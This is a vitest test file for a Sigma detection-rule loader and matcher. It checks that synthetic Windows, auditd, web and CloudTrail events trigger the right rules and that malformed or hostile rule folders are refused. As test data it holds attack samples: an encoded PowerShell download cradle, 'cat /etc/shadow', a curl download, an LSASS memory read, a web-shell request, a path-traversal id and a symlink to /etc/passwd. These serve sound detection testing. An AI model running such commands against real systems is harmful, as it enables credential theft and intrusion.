import { mkdtemp, mkdir, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { readRuleFolder } from "./read-rule-folder.js";
import { ruleMatcher, type RuleMatcher } from "./rule-matcher.js";
import { lineOf, processOf } from "./test-rule.js";
import type { SigmaSubject } from "./record-kind.js";

const RULES = fileURLToPath(new URL("./test-rules", import.meta.url));

describe("rules as users have them", () => {
  it("loads what can run and says why the rest cannot", async () => {
    const { rules, refused } = await readRuleFolder(RULES);
    expect(rules.length).toBe(24);
    expect(rules.find(({ rule }) => rule.title === "Account Added")).toMatchObject({
      file: "windows/collection.yml",
      rule: { level: "low", description: "Two rules in one file.", logsource: { category: "process_creation" } },
    });
    const reasons = refused.map(({ file, title, reason }) => `${file}: ${title ?? "-"}: ${reason}`);
    expect(reasons).toEqual([
      'other/unsupported.yml: Brute Force: correlation timespan is "", expected a number with s, m, h, d, w, M or y',
      "other/unsupported.yml: Looks Around: expression looks around, which is not supported",
      "other/unsupported.yml: A Log That Nobody Reads: log source (product toaster, service crumbs) is of no log that is read",
      "other/unsupported.yml: Placeholders: placeholder %unknown_users% is not defined",
      "other/unsupported.yml: Filter Of Another Rule: filters of other rules are not supported",
    ]);
  });
});

const event = (channel: string, id: number, fields: Readonly<Record<string, string>>): SigmaSubject => ({
  format: "windows-event",
  program: undefined,
  fields: { Channel: channel, EventID: String(id), ...fields },
  text: JSON.stringify({ Channel: channel, EventID: id, ...fields }),
});
const SYSMON = "Microsoft-Windows-Sysmon/Operational";
const web = (path: string, agent = "Mozilla/5.0"): SigmaSubject => ({
  format: "web-access",
  program: "web",
  fields: { client: "192.0.2.1", method: "GET", path, status: "200", bytes: "1", agent },
  text: `192.0.2.1 - - [x] "GET ${path} HTTP/1.1" 200 1 "-" "${agent}"`,
});
const cloud = (fields: Readonly<Record<string, string>>): SigmaSubject => ({
  format: "json-lines",
  program: fields["eventSource"],
  fields,
  text: JSON.stringify(fields),
});
const utf16 = (text: string): string => Buffer.from(text, "utf16le").toString("base64");

describe("rules on records", () => {
  let matcher: RuleMatcher;
  let titles: ReadonlyMap<string, string>;
  beforeAll(async () => {
    const { rules } = await readRuleFolder(RULES);
    matcher = ruleMatcher(rules.flatMap(({ rule }) => ("detection" in rule ? [rule] : [])));
    titles = new Map(rules.map(({ rule }) => [rule.id, rule.title]));
  });
  const met = (subject: SigmaSubject): readonly string[] => matcher.match(subject).map((id) => titles.get(id)!);

  it.each<[string, SigmaSubject, readonly string[]]>([
    [
      "Sysmon 1",
      processOf({ Image: String.raw`C:\x\powershell.exe`, CommandLine: "powershell /enc AAAA" }),
      ["Encoded PowerShell Command Line"],
    ],
    [
      "Sysmon 1 by original name",
      processOf({
        Image: String.raw`C:\x\p.exe`,
        OriginalFileName: "powershell.exe",
        CommandLine: "p -EncodedCommand AAAA",
      }),
      ["Encoded PowerShell Command Line"],
    ],
    [
      "Security 4688",
      event("Security", 4688, {
        NewProcessName: String.raw`C:\pwsh.exe`,
        CommandLine: "pwsh -enc AA",
        ParentProcessName: "x",
      }),
      ["Encoded PowerShell Command Line"],
    ],
    [
      "Security 4688 in words",
      event("Security", 4688, { NewProcessName: String.raw`C:\pwsh.exe`, ProcessCommandLine: "pwsh -enc AA" }),
      ["Encoded PowerShell Command Line"],
    ],
    [
      "another event",
      event(SYSMON, 5, { Image: String.raw`C:\x\powershell.exe`, CommandLine: "powershell /enc AAAA" }),
      [],
    ],
    [
      "parent and child",
      processOf({ ParentImage: String.raw`C:\WINWORD.EXE`, Image: String.raw`C:\cmd.exe`, CommandLine: "cmd" }),
      ["Shell Started By An Office Program"],
    ],
    [
      "what a filter takes out",
      processOf({
        ParentImage: String.raw`C:\WINWORD.EXE`,
        Image: String.raw`C:\cmd.exe`,
        CommandLine: "officeupdate.cmd",
      }),
      [],
    ],
    [
      "UTF-16 in Base64",
      processOf({ CommandLine: `x ${utf16("iex (New-Object Net.WebClient).DownloadString('http://192.0.2.7')")}` }),
      ["Hidden Download Address In Base64"],
    ],
    ["carets", processOf({ CommandLine: "C^M^D.exe /c p^i^n^g" }), ["Split Command Name"]],
    [
      "a registry value",
      event(SYSMON, 13, {
        TargetObject: String.raw`HKU\S-1\Software\Microsoft\Windows\CurrentVersion\Run\x`,
        Details: "x.exe",
      }),
      ["Autostart Entry Written"],
    ],
    [
      "a registry value without details",
      event(SYSMON, 13, { TargetObject: String.raw`HKU\S-1\Software\Microsoft\Windows\CurrentVersion\Run\x` }),
      [],
    ],
    [
      "a registry value of Security",
      event("Security", 4657, {
        ObjectName: String.raw`\REGISTRY\USER\Software\Microsoft\Windows\CurrentVersion\Run`,
        NewValue: "x",
      }),
      ["Autostart Entry Written"],
    ],
    [
      "a file",
      event(SYSMON, 11, { TargetFilename: String.raw`C:\Users\eva\Start Menu\Programs\Startup\a.VBS` }),
      ["Script Dropped Into Startup"],
    ],
    [
      "a connection",
      event(SYSMON, 3, {
        Image: String.raw`C:\powershell.exe`,
        DestinationIp: "198.51.100.7",
        DestinationPort: "4444",
      }),
      ["Shell Talks To The Outside"],
    ],
    [
      "a connection inside",
      event(SYSMON, 3, { Image: String.raw`C:\powershell.exe`, DestinationIp: "10.1.2.3", DestinationPort: "4444" }),
      [],
    ],
    ["a name", event(SYSMON, 22, { QueryName: "www.Paste.example" }), ["Name Of A Paste Service Asked For"]],
    [
      "a library",
      event(SYSMON, 7, { ImageLoaded: String.raw`C:\Users\eva\x.dll`, Signed: "false" }),
      ["Library Loaded From A User Folder"],
    ],
    [
      "memory",
      event(SYSMON, 10, { TargetImage: String.raw`C:\lsass.exe`, GrantedAccess: "0x1fffff" }),
      ["Memory Of LSASS Read"],
    ],
    [
      "a script block",
      event("Microsoft-Windows-PowerShell/Operational", 4104, { ScriptBlockText: "[Reflection.Assembly]::Load($x)" }),
      ["Reflection In A Script Block"],
    ],
    [
      "a logon",
      event("Security", 4624, { LogonType: "3", TargetDomainName: "WS1", Hostname: "ws1" }),
      ["Logon Over The Network With A Local Account"],
    ],
    [
      "a service",
      event("System", 7045, { SourceName: "Service Control Manager", ImagePath: String.raw`C:\Windows\Temp\a.exe` }),
      ["Service Installed From A Temporary Folder"],
    ],
    ["an account", processOf({ CommandLine: "NET.EXE user eva Secret1 /ADD" }), ["Account Added"]],
    ["a hash", processOf({ Hashes: "SHA1=11,MD5=0123456789abcdef0123456789abcdef" }), ["Hash Of A Known Tool"]],
    [
      "a hash by name",
      processOf({ Hashes: "SHA1=11,IMPHASH=AABBCCDDEEFF00112233445566778899" }),
      ["Hash Of A Known Tool"],
    ],
    [
      "sshd",
      lineOf("Mar 14 03:00:00 h sshd[1]: Accepted password for root from 192.0.2.1 port 1 ssh2", "sshd"),
      ["Root Logs In Over SSH"],
    ],
    ["another program", lineOf("Mar 14 03:00:00 h app[1]: Accepted password for root from 192.0.2.1", "app"), []],
    [
      "auditd",
      lineOf('type=EXECVE msg=audit(1700000000.1:7): argc=2 a0="cat" a1="/etc/shadow"'),
      ["Password File Read By A Tool"],
    ],
    [
      "auditd in hex",
      lineOf("type=EXECVE msg=audit(1700000000.1:7): argc=2 a0=636174 a1=2F6574632F736861646F77"),
      ["Password File Read By A Tool"],
    ],
    [
      "auditd as a command line",
      lineOf('type=EXECVE msg=audit(1700000000.1:7): argc=2 a0="curl" a1="-s" a2="http://192.0.2.1/x"'),
      ["Download With curl Into A Shell"],
    ],
    [
      "auditd with fields",
      {
        ...lineOf("type=EXECVE msg=audit(1700000000.1:7): argc=2 a0=636174 a1=2F6574632F736861646F77"),
        fields: { type: "EXECVE", a0: "636174", a1: "2F6574632F736861646F77" },
      },
      ["Password File Read By A Tool"],
    ],
    [
      "sudo",
      lineOf("Mar 14 h sudo: eva : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash", "sudo"),
      ["Shell As Root"],
    ],
    ["a web shell", web("/up/x.php?cmd=id"), ["Web Shell Is Asked To Run A Command"]],
    ["a page", web("/up/x.html?cmd=id"), []],
    ["a scanner", web("/", "sqlmap/1.7"), ["Web Shell Is Asked To Run A Command"]],
    ["CloudTrail", cloud({ eventSource: "cloudtrail.amazonaws.com", eventName: "StopLogging" }), ["Trail Stopped"]],
    [
      "CloudTrail that refused",
      cloud({ eventSource: "cloudtrail.amazonaws.com", eventName: "StopLogging", errorCode: "AccessDenied" }),
      [],
    ],
    [
      "a placeholder",
      processOf({ User: String.raw`example\rootbeer`, Image: String.raw`C:\wscript.exe` }),
      ["Administrator Runs A Script Host"],
    ],
  ])("%s", (_, subject, expected) => {
    expect(met(subject)).toEqual(expected);
  });
});

describe("hostile folders", () => {
  let folder: string;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), "lagebild-rules-"));
  });
  afterAll(() => rm(folder, { recursive: true }));

  it("reports what it cannot read and goes on", async () => {
    const rule = (id: string): string =>
      `title: T ${id}\nid: ${id}\nlogsource: {category: webserver}\ndetection: {s: {a: b}, condition: s}\n`;
    await mkdir(join(folder, "deep"));
    await writeFile(join(folder, "a.yml"), rule("aaa"));
    await writeFile(join(folder, "b.yml"), rule("aaa"));
    await writeFile(join(folder, "big.yml"), "x".repeat(10 * 1024 * 1024));
    await writeFile(join(folder, "deep", "c.yaml"), Buffer.from([0xff, 0xfe, 0x00, 0x7b]));
    await writeFile(join(folder, "empty.yml"), "");
    await writeFile(join(folder, "open.yml"), "title: 'never closed\n");
    await writeFile(join(folder, "list.yml"), "- a\n- b\n");
    await writeFile(join(folder, "odd.yml"), "title: [a]\nlogsource: 7\ndetection: yes\n");
    await writeFile(join(folder, "escape.yml"), rule("../../etc/passwd"));
    await writeFile(join(folder, "level.yml"), `${rule("lll")}level: dreadful\n`);
    await writeFile(
      join(folder, "types.yml"),
      "title: T\nid: ttt\nlogsource: {category: {a: b}}\ndetection: {s: {a: b}, condition: s}\n",
    );
    await symlink("/etc/passwd", join(folder, "link.yml"));
    const { rules, refused } = await readRuleFolder(folder);
    expect(rules.map(({ rule: { id } }) => id)).toEqual(["aaa"]);
    expect(Object.fromEntries(refused.map(({ file, reason }) => [file, reason]))).toEqual({
      "b.yml": "id is that of a rule in a.yml",
      "big.yml": "file has 10485760 bytes, at most 1048576 are read",
      "deep/c.yaml": expect.any(String) as string,
      "empty.yml": "file holds no rule",
      "open.yml": expect.stringMatching(/^not valid YAML: /) as string,
      "list.yml": "document is not a map",
      "odd.yml": "rule has no title",
      "escape.yml": "id is not of letters, digits and dashes",
      "level.yml": 'level is "dreadful", expected one of informational, low, medium, high, critical',
      "types.yml": "logsource category is not a short text",
      "link.yml": "not a plain file",
    });
  });

  it("lays a document over the one before where it says so", async () => {
    const path = join(folder, "repeat.yml");
    const rule = "title: One\nid: one\nlogsource: {category: webserver}\ndetection: {s: {a: b}, condition: s}\n";
    await writeFile(path, `${rule}---\naction: repeat\ntitle: Two\nid: two\n---\naction: repeat\nid: three\n`);
    const { rules } = await readRuleFolder(path);
    expect(rules.map(({ rule: { id, title } }) => `${id} ${title}`)).toEqual(["one One", "two Two", "three Two"]);
  });

  it("says that a folder is not there", async () => {
    await expect(readRuleFolder(join(folder, "nowhere"))).rejects.toMatchObject({ kind: "missing" });
  });
});
